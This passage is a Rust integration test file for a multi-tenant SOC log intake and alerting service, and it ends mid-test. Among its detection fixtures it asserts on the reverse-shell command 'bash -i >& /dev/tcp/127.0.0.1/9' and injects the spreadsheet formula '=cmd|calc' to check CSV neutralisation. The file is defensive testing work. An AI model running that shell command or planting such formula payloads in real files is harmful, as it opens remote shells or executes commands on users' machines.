//! The SOC end to end: real `logger` senders over UDP and TCP, a TLS sender
//! with its token, a real rsyslog forwarding over TLS, quotas per tenant, bad
//! lines kept and counted, agent lines, the alert file, retention with an
//! injected clock.

mod common;

use std::sync::Arc;
use std::time::Duration;

use common::{world, TestApp};
use leitstand_domain::TenantId;
use leitstand_server::config::SyslogConfig;
use leitstand_server::syslog::{start, Listening, SyslogCounters};
use leitstand_service::SourceInput;
use leitstand_store::TenantScope;

const BRUTE_FORCE: &str = "SSH brute force from one address";

async fn receiver(app: &TestApp, tls: Option<Arc<rustls::ServerConfig>>) -> (Listening, Arc<SyslogCounters>) {
    let any = Some("127.0.0.1:0".parse().expect("addr"));
    let config = SyslogConfig { udp: any, tcp: any, tls: tls.as_ref().and(any), ..SyslogConfig::default() };
    let counters = Arc::new(SyslogCounters::default());
    let listening = start(app.services.clone(), &config, tls, counters.clone()).await.expect("receiver");
    (listening, counters)
}

async fn source(app: &TestApp, tenant: TenantId, input: SourceInput) -> Option<String> {
    let admin = app.services.cli_actor().await.expect("admin");
    app.services.save_syslog_source(&admin, tenant, None, &input).await.expect("source").1
}

fn by_address(name: &str, address: &str) -> SourceInput {
    SourceInput { name: name.into(), address: address.into(), enabled: true, ..SourceInput::default() }
}

/// A self-signed certificate for `localhost` and the receiver's TLS
/// configuration with it.
fn tls_for_localhost() -> (rcgen::CertifiedKey, rustls::ServerConfig) {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let cert = rcgen::generate_simple_self_signed(vec!["localhost".into()]).expect("cert");
    let chain = vec![cert.cert.der().clone()];
    let key = rustls::pki_types::PrivateKeyDer::try_from(cert.key_pair.serialize_der()).expect("key");
    let server = rustls::ServerConfig::builder().with_no_client_auth().with_single_cert(chain, key).expect("server");
    (cert, server)
}

/// Waits until `done` holds (the intake is asynchronous).
async fn eventually<F: std::future::Future<Output = bool>>(what: &str, mut done: impl FnMut() -> F) {
    for _ in 0..200 {
        if done().await {
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("timed out waiting for {what}");
}

async fn soc_alerts(app: &TestApp, tenant: TenantId) -> Vec<leitstand_store::Alert> {
    let q = leitstand_store::AlertQuery { soc: true, limit: 100, ..Default::default() };
    app.store.alerts(&TenantScope::one(tenant), &q).await.expect("alerts")
}

async fn events(app: &TestApp, tenant: TenantId) -> Vec<leitstand_store::SocEvent> {
    let q = leitstand_store::SocEventQuery { tenant: Some(tenant), limit: 10_000, ..Default::default() };
    app.store.soc_events(&TenantScope::All, &q).await.expect("events")
}

fn logger(args: &[&str]) {
    // RFC 3164 times carry no zone; senders here write Berlin time, as the receiver assumes.
    let out = std::process::Command::new("logger")
        .env("TZ", "Europe/Berlin")
        .args(args)
        .output()
        .expect("logger runs (bsdutils)");
    assert!(out.status.success(), "logger failed: {}", String::from_utf8_lossy(&out.stderr));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logger_lines_over_udp_and_tcp_become_events_and_a_brute_force_alert() {
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    set_package(&app, w.a, "1").await;
    source(&app, w.a, by_address("Web 1", "127.0.0.1")).await;
    let (at, counters) = receiver(&app, None).await;
    let udp = at.udp.expect("udp").port().to_string();
    let tcp = at.tcp.expect("tcp").port().to_string();
    // Five failures over UDP in RFC 3164, five over TCP in RFC 5424 with octet counting.
    for i in 0..5 {
        let msg = format!("Failed password for root from 198.51.100.23 port 42{i:02} ssh2");
        logger(&["--server", "127.0.0.1", "--port", &udp, "--udp", "--rfc3164", "-t", "sshd", "-p", "auth.info", &msg]);
    }
    for i in 5..10 {
        let msg = format!("Failed password for root from 198.51.100.23 port 42{i:02} ssh2");
        logger(&["--server", "127.0.0.1", "--port", &tcp, "--tcp", "--octet-count", "-t", "sshd", &msg]);
    }
    eventually("ten stored events", || async { events(&app, w.a).await.len() >= 10 }).await;
    let stored = events(&app, w.a).await;
    assert!(stored.iter().all(|e| e.dataset == "sshd" && e.source_ip.as_deref() == Some("198.51.100.23")));
    eventually("the brute-force alert", || async {
        soc_alerts(&app, w.a).await.iter().any(|a| a.detail.contains(BRUTE_FORCE))
    })
    .await;
    let alerts = soc_alerts(&app, w.a).await;
    let brute = alerts.iter().find(|a| a.detail.contains(BRUTE_FORCE)).expect("alert");
    assert_eq!(brute.severity, leitstand_domain::alert::Severity::High);
    assert_eq!(brute.soc_group.as_deref(), Some("source.ip=198.51.100.23"));
    // The evidence is linked; the customer sees it through the API.
    let anna = app.token("anna").await;
    let evidence = app.get_json(&anna, &format!("/api/v1/alerts/{}/evidence", brute.id)).await;
    assert_eq!(evidence.as_array().map(Vec::len), Some(10), "the correlation links all ten: {evidence}");
    assert!(soc_alerts(&app, w.b).await.is_empty(), "nothing reached tenant B");
    assert!(counters.received.load(std::sync::atomic::Ordering::Relaxed) >= 10);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_lines_are_kept_raw_and_counted_and_unknown_senders_are_dropped() {
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    let (at, counters) = receiver(&app, None).await;
    let udp = tokio::net::UdpSocket::bind("127.0.0.2:0").await.expect("bind");
    let to = at.udp.expect("udp");
    udp.send_to(b"<38>Nov 18 09:19:00 web1 sshd[1]: nobody registered me", to).await.expect("send");
    eventually("the unknown sender counted", || async {
        counters.unknown_source.load(std::sync::atomic::Ordering::Relaxed) == 1
    })
    .await;
    set_package(&app, w.a, "1").await;
    source(&app, w.a, by_address("Web 2", "127.0.0.2")).await;
    let mut oversized = b"<38>Nov 18 09:19:00 web1 app[1]: ".to_vec();
    oversized.extend([b'x'; 20_000]);
    let lines: [&[u8]; 4] = [
        b"no header at all",
        b"<38>Nov 18 09:19:00 web1 sshd[1]: caf\xe9 \xff broken",
        oversized.as_slice(),
        b"<38>Nov 18 09:19:00 web1 sshd[1]: Accepted password for root from 198.51.100.23 port 4250 ssh2",
    ];
    for l in lines {
        udp.send_to(l, to).await.expect("send");
    }
    eventually("four stored events", || async { events(&app, w.a).await.len() == 4 }).await;
    let stored = events(&app, w.a).await;
    assert!(stored.iter().any(|e| e.dataset == "raw" && e.message == "no header at all"));
    assert!(stored.iter().any(|e| e.message.contains('\u{FFFD}')));
    assert!(stored
        .iter()
        .any(|e| e.message.starts_with("xxx") && e.message.len() < leitstand_detect::syslog::MAX_LINE));
    eventually("the root-login alert after the bad lines", || async {
        soc_alerts(&app, w.a).await.iter().any(|a| a.detail.contains("SSH login as root accepted"))
    })
    .await;
    let admin = app.services.cli_actor().await.expect("admin");
    let counted: std::collections::BTreeMap<String, u64> = app
        .services
        .soc_counters(&admin, w.a, 1)
        .await
        .expect("counters")
        .into_iter()
        .map(|(_, k, n)| (k, n))
        .collect();
    assert_eq!(counted.get("malformed"), Some(&1), "{counted:?}");
    assert_eq!(counted.get("invalid_utf8"), Some(&1), "{counted:?}");
    assert_eq!(counted.get("truncated"), Some(&1), "{counted:?}");
    assert_eq!(counted.get("stored"), Some(&4), "{counted:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_from_one_tenant_does_not_starve_another() {
    let app = TestApp::spawn_tuned(|c| {
        c.soc.lines_per_second = 10.0;
        c.soc.burst = 100;
    })
    .await;
    let w = world(&app).await;
    source(&app, w.a, by_address("A", "127.0.0.3")).await;
    source(&app, w.b, by_address("B", "127.0.0.4")).await;
    let (at, _) = receiver(&app, None).await;
    let tcp = at.tcp.expect("tcp");
    // B floods 2 000 lines over TCP (no loss in transport); A sends 20.
    let flood = tokio::spawn(async move {
        use tokio::io::AsyncWriteExt;
        let socket = tokio::net::TcpSocket::new_v4().expect("socket");
        socket.bind("127.0.0.4:0".parse().expect("addr")).expect("bind");
        let mut s = socket.connect(tcp).await.expect("connect");
        for i in 0..2_000 {
            let line =
                format!("<38>Nov 18 09:19:00 fw-b sshd[1]: Failed password for root from 203.0.113.9 port {i} ssh2\n");
            s.write_all(line.as_bytes()).await.expect("write");
        }
    });
    let socket = tokio::net::TcpSocket::new_v4().expect("socket");
    socket.bind("127.0.0.3:0".parse().expect("addr")).expect("bind");
    let mut a = socket.connect(tcp).await.expect("connect");
    for i in 0..20 {
        use tokio::io::AsyncWriteExt;
        let line = format!(
            "<38>Nov 18 09:19:00 web-a sshd[1]: Accepted publickey for anna from 192.168.1.{i} port 5000 ssh2\n"
        );
        a.write_all(line.as_bytes()).await.expect("write");
    }
    drop(a);
    flood.await.expect("flood");
    eventually("A's twenty events", || async { events(&app, w.a).await.len() == 20 }).await;
    let admin = app.services.cli_actor().await.expect("admin");
    let counted = |t| {
        let (services, admin) = (app.services.clone(), admin.clone());
        async move {
            services
                .soc_counters(&admin, t, 1)
                .await
                .expect("counters")
                .into_iter()
                .filter(|(_, k, _)| k == "over_quota")
                .map(|(_, _, n)| n)
                .sum::<u64>()
        }
    };
    eventually("B's lines past its quota counted", || async { counted(w.b).await == 1_900 }).await;
    assert_eq!(events(&app, w.b).await.len(), 100, "B keeps its burst");
    assert_eq!(counted(w.a).await, 0, "A lost nothing");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tls_sender_is_known_by_its_token_only() {
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    let (cert, server) = tls_for_localhost();
    let token = source(
        &app,
        w.a,
        SourceInput { name: "Remote FW".into(), new_token: true, enabled: true, ..SourceInput::default() },
    )
    .await
    .expect("token shown once");
    let (at, _) = receiver(&app, Some(Arc::new(server))).await;
    let mut roots = rustls::RootCertStore::empty();
    roots.add(cert.cert.der().clone()).expect("root");
    let client = rustls::ClientConfig::builder().with_root_certificates(roots).with_no_client_auth();
    let connector = tokio_rustls::TlsConnector::from(Arc::new(client));
    let send = |line: String| {
        let connector = connector.clone();
        async move {
            use tokio::io::AsyncWriteExt;
            let tcp = tokio::net::TcpStream::connect(at.tls.expect("tls")).await.expect("connect");
            let name = rustls::pki_types::ServerName::try_from("localhost").expect("name");
            let mut s = connector.connect(name, tcp).await.expect("handshake");
            s.write_all(format!("{} {line}", line.len()).as_bytes()).await.expect("write");
            s.shutdown().await.expect("close");
        }
    };
    let line = |token: &str, user: &str| {
        format!(
            "<38>1 2026-11-24T08:00:00+01:00 fw01 sshd 1 - [leitstand token=\"{token}\"] Accepted password for {user} from 198.51.100.23 port 1 ssh2"
        )
    };
    send(line("wrong", "mallory")).await;
    send(line(&token, "root")).await;
    eventually("the token's line stored", || async { !events(&app, w.a).await.is_empty() }).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    let stored = events(&app, w.a).await;
    assert_eq!(stored.len(), 1, "the line with a wrong token is dropped");
    assert_eq!(stored[0].user.as_deref(), Some("root"));
    assert!(!stored[0].message.contains(&token) && !stored[0].event.contains(&token), "the token is not stored");
}

/// The forwarder most Linux servers already run: rsyslog sends what local
/// programs log over TLS (its gtls driver, checking our certificate and
/// name), octet-counted, with the sender's token as structured data in
/// the form the README gives.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rsyslog_forwards_over_tls_with_the_token() {
    let rsyslogd = std::path::Path::new("/usr/sbin/rsyslogd");
    let gtls = std::path::Path::new("/usr/lib/x86_64-linux-gnu/rsyslog/lmnsd_gtls.so");
    if !rsyslogd.exists() || !gtls.exists() {
        assert!(std::env::var("CI").is_err(), "rsyslog or rsyslog-gnutls missing (scripts/test.sh installs them)");
        eprintln!("SKIPPED: rsyslog and rsyslog-gnutls are not installed");
        return;
    }
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    set_package(&app, w.a, "1").await;
    let (cert, server) = tls_for_localhost();
    let input = SourceInput { name: "web-01 rsyslog".into(), new_token: true, enabled: true, ..Default::default() };
    let token = source(&app, w.a, input).await.expect("token shown once");
    let (at, counters) = receiver(&app, Some(Arc::new(server))).await;

    let dir = tempfile::tempdir().expect("dir");
    let path = |name: &str| dir.path().join(name).display().to_string();
    std::fs::write(path("ca.pem"), cert.cert.pem()).expect("ca");
    let config = format!(
        r#"global(workDirectory="{work}" defaultNetstreamDriverCAFile="{ca}" localHostName="web-01")
module(load="imuxsock" SysSock.Use="off")
input(type="imuxsock" Socket="{socket}")
template(name="leitstand" type="string"
  string="<%PRI%>1 %TIMESTAMP:::date-rfc3339% %HOSTNAME% %APP-NAME% %PROCID% %MSGID% [leitstand token=\"{token}\"] %msg%\n")
action(type="omfwd" target="127.0.0.1" port="{port}" protocol="tcp" TCP_Framing="octet-counted"
  StreamDriver="gtls" StreamDriverMode="1" StreamDriverAuthMode="x509/name" StreamDriverPermittedPeers="localhost"
  template="leitstand")
"#,
        work = dir.path().display(),
        ca = path("ca.pem"),
        socket = path("log.sock"),
        port = at.tls.expect("tls").port(),
    );
    std::fs::write(path("rsyslog.conf"), config).expect("config");
    let mut child = std::process::Command::new(rsyslogd)
        .args(["-n", "-f", &path("rsyslog.conf"), "-i", &path("rsyslog.pid")])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("rsyslogd starts");
    for _ in 0..100 {
        if dir.path().join("log.sock").exists() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    for i in 0..10 {
        let msg = format!("Failed password for root from 198.51.100.23 port 42{i:02} ssh2");
        logger(&["-u", &path("log.sock"), "-t", "sshd", "-p", "auth.info", &msg]);
    }
    let waited = tokio::time::timeout(Duration::from_secs(20), async {
        while events(&app, w.a).await.len() < 10 {
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    })
    .await;
    let _ = child.kill();
    let out = child.wait_with_output().expect("rsyslogd ends");
    assert!(waited.is_ok(), "rsyslog's lines did not arrive: {}", String::from_utf8_lossy(&out.stderr));
    let stored = events(&app, w.a).await;
    assert!(
        stored.iter().all(|e| e.dataset == "sshd"
            && e.host_name.as_deref() == Some("web-01")
            && e.source_ip.as_deref() == Some("198.51.100.23")
            && !e.event.contains(&token)
            && !e.message.contains(&token)),
        "{stored:?}"
    );
    eventually("the brute-force alert", || async {
        soc_alerts(&app, w.a).await.iter().any(|a| a.detail.contains(BRUTE_FORCE))
    })
    .await;
    assert_eq!(counters.unknown_source.load(std::sync::atomic::Ordering::Relaxed), 0);
}

#[tokio::test]
async fn agent_lines_run_through_the_same_rules_once() {
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    let admin = app.services.cli_actor().await.expect("admin");
    set_package(&app, w.a, "1").await;
    let (host_id, _) = app.host(&admin, w.a, "a-web-02").await;
    let host = app.store.host_for_agent(leitstand_domain::HostId(host_id)).await.expect("host");
    let failed: Vec<_> = (0..10)
        .map(|i| leitstand_proto::SystemEvent {
            at_ms: app.now().as_millisecond() + i * 1000,
            kind: "auth.login_failed".into(),
            service: "sshd".into(),
            user: "root".into(),
            source: "198.51.100.77".into(),
            message: format!("Failed password for root from 198.51.100.77 port 40{i:02} ssh2"),
            ..Default::default()
        })
        .collect();
    let batch = || {
        let record = leitstand_proto::Record::Events { events: failed.clone() };
        leitstand_proto::Batch::new(vec![leitstand_proto::Sequenced { seq: 1, record }])
    };
    app.services.ingest_batch(&host, batch(), None).await.expect("batch");
    // The agent did not hear the acknowledgement and sends it again.
    app.services.ingest_batch(&host, batch(), None).await.expect("retry");
    let stored = events(&app, w.a).await;
    assert_eq!(stored.len(), 10, "a retried batch is not taken twice");
    let alerts = soc_alerts(&app, w.a).await;
    let brute = alerts.iter().find(|a| a.detail.contains(BRUTE_FORCE)).expect("brute force from agent lines");
    assert_eq!(brute.host, Some(leitstand_domain::HostId(host_id)));
    assert_eq!(brute.count, 1);
}

/// The real agent process reads its host's audit log (real auditd records,
/// moved to the last hour) and the SOC's audit-log rules fire on them.
#[tokio::test]
async fn the_agent_forwards_the_audit_log_and_its_rules_fire() {
    let Some(bin) = common::agent_binary() else {
        assert_ne!(std::env::var("CI").as_deref(), Ok("true"), "leitstand-agent not built next to the tests");
        eprintln!("SKIPPED: build leitstand-agent first (cargo build -p leitstand-agent)");
        return;
    };
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    set_package(&app, w.a, "1").await;
    let admin = app.services.cli_actor().await.expect("admin");
    let token = app.services.create_enroll_token(&admin, w.a).await.expect("token").token;
    let (state, root) = (tempfile::tempdir().expect("state"), tempfile::tempdir().expect("root"));
    let fixture = format!("{}/../detect/tests/fixtures/lines/auditd_debian12.log", env!("CARGO_MANIFEST_DIR"));
    let captured = std::fs::read_to_string(fixture).expect("fixture");
    // Captured at 1795524975 (last record); the agent's first run looks back 24 h.
    let shift = jiff::Timestamp::now().as_second() - 3600 - 1_795_524_975;
    let mut log = String::new();
    for line in captured.split_inclusive('\n') {
        let (head, rest) = line.split_once("msg=audit(").expect("record");
        let (secs, rest) = rest.split_once('.').expect("time");
        let secs: i64 = secs.parse().expect("seconds");
        log.push_str(&format!("{head}msg=audit({}.{rest}", secs + shift));
    }
    std::fs::create_dir_all(root.path().join("var/log/audit")).expect("dir");
    std::fs::write(root.path().join("var/log/audit/audit.log"), log).expect("audit.log");
    let config = state.path().join("agent.toml");
    std::fs::write(&config, "interval_secs = 5\n").expect("config");
    let run = |args: Vec<String>| common::run_agent(&bin, &config, state.path(), args);
    let out = run(vec!["enroll".into(), "--server".into(), app.url.clone(), "--token".into(), token]).await;
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let root_arg = root.path().display().to_string();
    let out = run(vec!["--root".into(), root_arg, "run".into(), "--rounds".into(), "1".into()]).await;
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    let stored = events(&app, w.a).await;
    let audit: Vec<_> = stored.iter().filter(|e| e.dataset == "auditd").collect();
    assert_eq!(audit.len(), captured.lines().count(), "every record, once");
    assert!(audit.iter().all(|e| e.host_name.is_some()));
    let alerts = soc_alerts(&app, w.a).await;
    let details: Vec<&str> = alerts.iter().map(|a| a.detail.as_str()).collect();
    for title in ["Local account created (audit log)", "Shell wired to a network socket (reverse shell)"] {
        assert!(details.iter().any(|d| d.contains(title)), "{title}: {details:?}");
    }
    assert!(alerts.iter().all(|a| a.host.is_some()), "{alerts:?}");
    let shell = alerts.iter().find(|a| a.detail.contains("reverse shell")).expect("alert");
    let q = leitstand_store::SocEventQuery { alert: Some(shell.id), limit: 10, ..Default::default() };
    let evidence = app.store.soc_events(&TenantScope::one(w.a), &q).await.expect("evidence");
    assert!(evidence[0].event.contains("bash -i >& /dev/tcp/127.0.0.1/9"), "decoded: {}", evidence[0].event);
    assert!(soc_alerts(&app, w.b).await.is_empty());
}

#[tokio::test]
async fn audit_records_out_of_bounds_are_refused_with_a_reason() {
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    let admin = app.services.cli_actor().await.expect("admin");
    let (host_id, _) = app.host(&admin, w.a, "a-web-03").await;
    let host = app.store.host_for_agent(leitstand_domain::HostId(host_id)).await.expect("host");
    let batch = |lines: Vec<String>| {
        let record = leitstand_proto::Record::Audit { lines };
        leitstand_proto::Batch::new(vec![leitstand_proto::Sequenced { seq: 1, record }])
    };
    let long = format!("type=EXECVE msg=audit(1795524970.000:1): argc=1 a0=\"{}\"", "x".repeat(9000));
    let err = app.services.ingest_batch(&host, batch(vec![long]), None).await.expect_err("too long");
    assert!(err.to_string().contains("record 1: an audit line of"), "{err}");
    let many = vec!["type=X msg=audit(1.0:1): a=1".to_string(); 5001];
    let err = app.services.ingest_batch(&host, batch(many), None).await.expect_err("too many");
    assert!(err.to_string().contains("5001 audit lines"), "{err}");
    // Without a SOC package the lines are taken and not kept.
    let line = "type=ADD_USER msg=audit(1795524923.636:8): pid=1 uid=0 msg='op=adding user id=1001 res=success'";
    app.services.ingest_batch(&host, batch(vec![line.into()]), None).await.expect("taken");
    assert!(events(&app, w.a).await.is_empty());
}

#[tokio::test]
async fn the_alert_file_lists_soc_alerts_by_criticality_as_csv_and_json() {
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    set_package(&app, w.a, "1").await;
    source(&app, w.a, by_address("Web 1", "127.0.0.1")).await;
    // B has no SOC package: its lines are stored, no rule runs on them.
    source(&app, w.b, by_address("Web B", "127.0.0.2")).await;
    let lines = [
        "<38>Nov 18 09:19:04 web1 sshd[816]: Accepted password for root from 198.51.100.23 port 4250 ssh2",
        "<85>Nov 18 09:19:08 web1 sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash",
        "<86>Nov 18 09:19:11 web1 useradd[900]: new user: name=backdoor, UID=1002, GID=1002, home=/home/backdoor",
        // A user name that a spreadsheet would run as a formula.
        "<85>Nov 18 09:19:12 web1 sudo:   =cmd|calc : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
    ];
    let datagrams = lines.iter().map(|l| common::datagram("127.0.0.1", l)).collect();
    let report = app.services.ingest_syslog(datagrams).await.expect("intake");
    assert_eq!((report.stored, report.hits), (4, 4));
    let b_lines = lines.iter().map(|l| common::datagram("127.0.0.2", l)).collect();
    let report = app.services.ingest_syslog(b_lines).await.expect("intake");
    assert_eq!((report.stored, report.hits), (4, 0), "no package, no detection");
    let anna = app.token("anna").await;
    let json = app.get_json(&anna, "/api/v1/soc/export?format=json").await;
    let severities: Vec<&str> =
        json.as_array().expect("array").iter().map(|a| a["severity"].as_str().unwrap_or("")).collect();
    assert_eq!(severities, ["high", "medium", "low"], "{json}");
    assert_eq!(json[0]["title"], "User not allowed to use sudo");
    let csv = app
        .api()
        .get(app.at("/api/v1/soc/export?format=csv"))
        .bearer_auth(&anna)
        .send()
        .await
        .expect("csv")
        .text()
        .await
        .expect("text");
    let mut rows = csv.lines();
    assert!(rows.next().expect("header").starts_with("id,tenant,severity,state,title"));
    let first = rows.next().expect("first");
    assert!(first.contains("User not allowed to use sudo"), "{first}");
    assert!(first.contains("\"'=cmd|calc\""), "formulas are neutralised: {first}");
    assert_eq!(rows.count(), 2);
    // Tenant B's customer sees none of it.
    let berta = app.token("berta").await;
    let theirs = app.get_json(&berta, "/api/v1/soc/export?format=json").await;
    assert_eq!(theirs.as_array().map(Vec::len), Some(0));
}

#[tokio::test]
async fn events_past_the_retention_are_deleted_per_tenant() {
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    set_package(&app, w.a, "1").await;
    source(&app, w.a, by_address("A", "127.0.0.1")).await;
    source(&app, w.b, by_address("B", "127.0.0.2")).await;
    let admin = app.services.cli_actor().await.expect("admin");
    app.services.set_soc_retention(&admin, w.b, 200).await.expect("B agreed on 200 days");
    let send = |peer: &str| {
        common::datagram(
            peer,
            "<38>Nov 18 09:19:04 h sshd[1]: Accepted password for root from 198.51.100.23 port 1 ssh2",
        )
    };
    app.services.ingest_syslog(vec![send("127.0.0.1"), send("127.0.0.2")]).await.expect("intake");
    app.clock.advance(jiff::SignedDuration::from_hours(89 * 24));
    assert_eq!(app.services.soc_retention().await.expect("retention"), 0);
    app.clock.advance(jiff::SignedDuration::from_hours(2 * 24));
    assert_eq!(app.services.soc_retention().await.expect("retention"), 1, "A's 91-day-old event goes");
    assert!(events(&app, w.a).await.is_empty());
    assert_eq!(events(&app, w.b).await.len(), 1, "B keeps its events for 200 days");
    let alert = soc_alerts(&app, w.a).await.pop().expect("the alert stays");
    let anna = app.token("anna").await;
    let evidence = app.get_json(&anna, &format!("/api/v1/alerts/{}/evidence", alert.id)).await;
    assert_eq!(evidence.as_array().map(Vec::len), Some(0), "its evidence link went with the event");
    let refused = app.services.set_soc_retention(&admin, w.a, 0).await;
    assert!(refused.is_err(), "0 days is refused");
}

#[tokio::test]
async fn custom_rules_are_checked_with_line_and_cause_and_customers_cannot_administer() {
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    let soc = app.token("soc").await;
    let bad = "title: x\nid: 6c1d2c52-8f1e-4d3a-9d0b-0c0ffee0bbbb\nlogsource:\n  product: linux\ndetection:\n  sel:\n    user.name|endwith: x\n  condition: sel\n";
    let resp = app
        .api()
        .post(app.at("/api/v1/soc/rules/check"))
        .bearer_auth(&soc)
        .json(&serde_json::json!({ "yaml": bad }))
        .send()
        .await
        .expect("check");
    let body: serde_json::Value = resp.json().await.expect("json");
    assert_eq!(body["valid"], false);
    assert_eq!(body["problems"][0]["line"], 7, "{body}");
    assert!(body["problems"][0]["cause"].as_str().unwrap_or("").contains("endwith"), "{body}");
    let saved = app
        .api()
        .post(app.at(&format!("/api/v1/tenants/{}/soc-rules", w.a.0)))
        .bearer_auth(&soc)
        .json(&serde_json::json!({ "yaml": bad }))
        .send()
        .await
        .expect("save");
    assert_eq!(saved.status(), 400, "an invalid rule is not saved");
    let good = bad.replace("|endwith", "|endswith");
    let saved = app
        .api()
        .post(app.at(&format!("/api/v1/tenants/{}/soc-rules", w.a.0)))
        .bearer_auth(&soc)
        .json(&serde_json::json!({ "yaml": good }))
        .send()
        .await
        .expect("save");
    assert_eq!(saved.status(), 200);
    let rules = app.get_json(&soc, &format!("/api/v1/tenants/{}/soc-rules", w.a.0)).await;
    assert!(rules["rules"].as_array().expect("rules").iter().any(|r| r["custom"] == true));
    let anna = app.token("anna").await;
    let denied = app
        .api()
        .get(app.at(&format!("/api/v1/tenants/{}/soc-rules", w.a.0)))
        .bearer_auth(&anna)
        .send()
        .await
        .expect("get");
    assert_eq!(denied.status(), 403, "customers see results, not the rules (SOC-13)");
}

async fn set_package(app: &TestApp, tenant: TenantId, soc: &str) {
    let admin = app.services.cli_actor().await.expect("admin");
    let plan =
        leitstand_service::PlanInput { security: "professional".into(), soc: soc.into(), managed_service: false };
    app.services.set_plan(&admin, tenant, &plan).await.expect("plan");
}

#[tokio::test]
async fn the_queue_honours_package_hours_and_nrw_holidays() {
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    set_package(&app, w.a, "2").await;
    set_package(&app, w.b, "3").await;
    source(&app, w.a, by_address("A", "127.0.0.1")).await;
    source(&app, w.b, by_address("B", "127.0.0.2")).await;
    let root = "<38>Nov 18 09:19:04 h sshd[1]: Accepted password for root from 198.51.100.23 port 1 ssh2";
    app.services
        .ingest_syslog(vec![common::datagram("127.0.0.1", root), common::datagram("127.0.0.2", root)])
        .await
        .expect("in");
    let admin = app.services.cli_actor().await.expect("admin");
    let at =
        |s: &str| -> jiff::Timestamp { format!("{s}[Europe/Berlin]").parse::<jiff::Zoned>().expect("t").timestamp() };
    let split = |items: Vec<leitstand_service::QueueItem>| {
        let now: Vec<TenantId> = items.iter().filter(|i| i.in_hours).map(|i| i.alert.tenant).collect();
        let later: Vec<TenantId> = items.iter().filter(|i| !i.in_hours).map(|i| i.alert.tenant).collect();
        (now, later)
    };
    app.clock.set(at("2026-11-24T10:00:00")); // Tuesday
    assert_eq!(split(app.services.soc_queue(&admin).await.expect("queue")).0.len(), 2);
    app.clock.set(at("2026-11-28T10:00:00")); // Saturday
    let items = app.services.soc_queue(&admin).await.expect("queue");
    assert_eq!(split(items.clone()), (vec![w.b], vec![w.a]), "package 3 is worked at weekends, package 2 waits");
    let waiting = items.iter().find(|i| i.alert.tenant == w.a).expect("A");
    assert_eq!(waiting.next_start, Some(at("2026-11-30T09:00:00")), "Monday 9:00");
    app.clock.set(at("2026-06-04T11:00:00")); // Corpus Christi, a holiday in NRW
    assert_eq!(split(app.services.soc_queue(&admin).await.expect("queue")), (vec![w.b], vec![w.a]));
    // Package 1 gets the alert file, not analysts.
    set_package(&app, w.b, "1").await;
    let items = app.services.soc_queue(&admin).await.expect("queue");
    assert!(items.iter().all(|i| i.alert.tenant != w.b));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn analysts_triage_recommend_by_mail_and_close_while_customers_see_no_internal_notes() {
    let Some(smtp) = common::smtp::Smtp::start().await else { return };
    let app = TestApp::spawn().await;
    let w = world(&app).await;
    set_package(&app, w.a, "3").await;
    source(&app, w.a, by_address("A", "127.0.0.1")).await;
    let admin = app.services.cli_actor().await.expect("admin");
    let contact = leitstand_service::ContactInput {
        name: "IT Kunde A".into(),
        channel: "email".into(),
        address: "it@kunde-a.example".into(),
        language: "de".into(),
        min_severity: "critical".into(),
        level: 0,
        enabled: true,
        rules: vec![],
    };
    app.services.save_contact(&admin, w.a, None, contact).await.expect("contact");
    let line = "<38>Nov 18 09:19:04 h sshd[1]: Accepted password for root from 198.51.100.23 port 1 ssh2";
    app.services.ingest_syslog(vec![common::datagram("127.0.0.1", line)]).await.expect("in");
    let alert = soc_alerts(&app, w.a).await.pop().expect("alert");
    let soc = app.actor("soc").await;
    // The address is on the provider's indicator list.
    app.services.add_indicator(&soc, "ip", "198.51.100.23", "known scanner").await.expect("indicator");
    let hits = app.services.alert_indicator_hits(&soc, alert.id).await.expect("hits");
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].note, "known scanner");
    // Reprioritise and reclassify, an internal note, a recommendation.
    app.services.triage_soc_alert(&soc, alert.id, Some("critical"), Some("brute_force"), None).await.expect("triage");
    app.services.soc_internal_note(&soc, alert.id, "Kunde hat Root-Login erlaubt, intern prüfen").await.expect("note");
    let told = app
        .services
        .recommend(
            &soc,
            alert.id,
            "Bitte den Root-Login per SSH abschalten (PermitRootLogin no) und das Passwort ändern.",
        )
        .await
        .expect("recommend");
    assert_eq!(told, 1);
    let mut config = leitstand_server::config::Config { smtp: Some(smtp.config()), ..Default::default() };
    config.base_url = Some(app.url.clone());
    let notifier = leitstand_server::notify::Notifier::new(app.services.clone(), &config).expect("notifier");
    notifier.round(false).await.expect("round");
    let mails = smtp.messages();
    let mail = mails.iter().find(|m| common::smtp::subject(m).contains("Empfehlung des SOC")).expect("the mail");
    assert!(mail.contains("PermitRootLogin no"), "{mail}");
    assert!(!mail.contains("intern pr"), "the internal note is not mailed");
    // The customer sees the recommendation, not the internal note.
    let anna = app.token("anna").await;
